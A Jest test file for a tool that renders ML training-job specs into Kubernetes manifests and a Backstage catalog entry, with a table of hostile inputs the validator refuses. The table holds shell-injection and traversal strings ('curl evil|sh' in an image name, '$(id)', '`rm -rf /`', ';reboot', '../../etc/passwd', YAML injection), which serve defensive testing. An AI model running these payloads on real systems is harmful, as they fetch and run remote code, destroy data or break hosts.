import { parse } from 'yaml';
import { checkManifestPolicy, parseManifestFile } from '../manifests';
import { SpecValidationError } from '../render/validation';
import { parseTrainingRepoSpec, renderTrainingRepo } from '.';
import { randomTrainingSpec, seededRandom } from './testSpecs';

const RUNS = 300;

/** Every pod template of a rendered workload, wherever the kind keeps it. */
function podTemplates(object: any): any[] {
  switch (object.kind) {
    case 'PyTorchJob':
      return Object.values(object.spec.pytorchReplicaSpecs).map(
        (r: any) => r.template,
      );
    case 'TrainJob':
      return object.spec.runtimePatches.flatMap((p: any) =>
        p.trainingRuntimeSpec.template.spec.replicatedJobs.map(
          (j: any) => j.template.spec.template,
        ),
      );
    case 'RayJob':
      return [
        object.spec.rayClusterSpec.headGroupSpec.template,
        ...object.spec.rayClusterSpec.workerGroupSpecs.map(
          (g: any) => g.template,
        ),
      ];
    case 'RayCluster':
      return [
        object.spec.headGroupSpec.template,
        ...object.spec.workerGroupSpecs.map((g: any) => g.template),
      ];
    default:
      return [];
  }
}

describe('renderTrainingRepo over random valid specs', () => {
  it(`renders ${RUNS} specs into manifests that parse, pass the policy and carry the label`, () => {
    const random = seededRandom(20261001);
    const kinds = new Set<string>();
    for (let run = 0; run < RUNS; run++) {
      const input = randomTrainingSpec(random);
      const spec = parseTrainingRepoSpec(input);
      const files = renderTrainingRepo(input);
      expect(renderTrainingRepo(JSON.parse(JSON.stringify(input)))).toEqual(
        files,
      );

      const manifests = files.filter(f => f.path.startsWith('deploy/'));
      for (const file of manifests) {
        const parsed = parseManifestFile(file.path, file.content);
        expect(parsed.problems).toEqual([]);
        expect(
          checkManifestPolicy(parsed.manifests, { namespace: spec.namespace }),
        ).toEqual([]);
        for (const { object } of parsed.manifests) {
          kinds.add(object.kind);
          expect(
            (object.metadata as any).labels['backstage.io/kubernetes-id'],
          ).toBe(spec.name);
          for (const pod of podTemplates(object)) {
            expect(pod.metadata.labels['backstage.io/kubernetes-id']).toBe(
              spec.name,
            );
          }
        }
      }
      const entity = parse(
        files.find(f => f.path === 'catalog-info.yaml')!.content,
      );
      expect(entity.metadata.name).toBe(spec.name);
      expect(entity.metadata.annotations['mlops/manifests']).toBe('./deploy');
      expect(entity.spec.type).toBe('training-job');
    }
    expect([...kinds].sort()).toEqual([
      'ConfigMap',
      'PyTorchJob',
      'RayCluster',
      'RayJob',
      'TrainJob',
    ]);
  });
});

const valid = {
  framework: 'pytorch',
  name: 'resnet50-ddp',
  owner: 'group:default/ml-platform-team',
};

/** Hostile or malformed inputs, the field each must be refused on, and the accepted form. */
const HOSTILE_INPUTS: Array<[string, Record<string, unknown>, string, RegExp]> =
  [
    [
      'path traversal in the name',
      { name: '../../etc/passwd' },
      'name',
      /DNS-1123 label/,
    ],
    ['upper-case name', { name: 'ResNet50' }, 'name', /lower-case letters/],
    [
      '300-character name',
      { name: 'a'.repeat(300) },
      'name',
      /at most 40 characters/,
    ],
    [
      'name with a newline (YAML injection)',
      { name: 'x\nkind: Secret' },
      'name',
      /DNS-1123/,
    ],
    [
      'namespace with a slash',
      { namespace: 'kube-system/x' },
      'namespace',
      /DNS-1123/,
    ],
    [
      'negative GPU count',
      { gpusPerNode: -1 },
      'gpusPerNode',
      /whole number from 0 to 16/,
    ],
    [
      'huge GPU count',
      { gpusPerNode: 1_000_000 },
      'gpusPerNode',
      /whole number from 0 to 16/,
    ],
    [
      'fractional node count',
      { nodes: 2.5 },
      'nodes',
      /whole number from 1 to 256/,
    ],
    ['zero nodes', { nodes: 0 }, 'nodes', /whole number from 1 to 256/],
    [
      'shell in the image',
      { image: 'pytorch:2;curl evil|sh' },
      'image',
      /container image reference/,
    ],
    [
      'command substitution in the base image',
      { baseImage: '$(id)' },
      'baseImage',
      /container image reference/,
    ],
    [
      'non-S3 dataset',
      { datasetUri: 'http://evil.example.com/x' },
      'datasetUri',
      /S3 URI/,
    ],
    [
      'quote in the dataset key',
      { datasetUri: "s3://bucket/a'b" },
      'datasetUri',
      /S3 URI/,
    ],
    [
      'YAML in the description',
      { description: 'x\n---\nkind: Secret' },
      'description',
      /plain text/,
    ],
    [
      'shell in the description',
      { description: '`rm -rf /`' },
      'description',
      /plain text/,
    ],
    [
      'YAML anchor in the owner',
      { owner: '&a *a' },
      'owner',
      /entity reference/,
    ],
    [
      'bad memory quantity',
      { memory: '64GB' },
      'memory',
      /Kubernetes quantity/,
    ],
    [
      'unknown field',
      { privileged: true },
      '(input)',
      /unknown field\(s\) "privileged"/,
    ],
    [
      'unknown operator',
      { operator: 'mpijob' },
      'operator',
      /must be one of "pytorchjob", "trainjob"/,
    ],
    [
      'shell in NCCL_SOCKET_IFNAME',
      { nccl: { socketIfname: 'eth0;reboot' } },
      'nccl.socketIfname',
      /network interface list/,
    ],
    [
      'elastic range not around nodes',
      { nodes: 8, elastic: { minNodes: 9, maxNodes: 12 } },
      'elastic',
      /minNodes <= nodes <= maxNodes/,
    ],
    [
      'elastic with Trainer v2',
      { operator: 'trainjob', elastic: { minNodes: 1, maxNodes: 4 } },
      'elastic',
      /only rendered for operator "pytorchjob"/,
    ],
  ];

describe('hostile inputs', () => {
  it.each(HOSTILE_INPUTS)('refuses %s', (_what, patch, field, accepted) => {
    let error: SpecValidationError | undefined;
    try {
      renderTrainingRepo({ ...valid, ...patch } as any);
    } catch (e) {
      error = e as SpecValidationError;
    }
    expect(error).toBeInstanceOf(SpecValidationError);
    const problem = error!.problems.find(p => p.field === field);
    expect(problem?.message).toMatch(accepted);
    expect(error!.message).toContain(`  - ${field}: `);
  });

  it('refuses Ray worker bounds that do not hold the worker count', () => {
    expect(() =>
      renderTrainingRepo({
        ...valid,
        framework: 'ray',
        workers: 10,
        minWorkers: 0,
        maxWorkers: 4,
      } as any),
    ).toThrow(
      'workers: needs minWorkers <= workers <= maxWorkers (got 0 <= 10 <= 4)',
    );
  });
});
